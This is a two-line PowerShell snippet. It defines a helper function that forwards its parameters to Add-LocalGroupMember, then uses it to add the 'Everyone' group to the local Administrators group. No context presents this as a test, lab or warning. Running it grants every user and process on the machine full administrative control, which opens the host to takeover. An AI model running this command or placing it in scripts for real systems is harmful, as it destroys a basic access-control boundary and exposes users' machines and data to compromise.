function Set-Member { param($Group, $Member) $given = $MyInvocation.BoundParameters; Add-LocalGroupMember @given }
Set-Member Administrators -Member Everyone
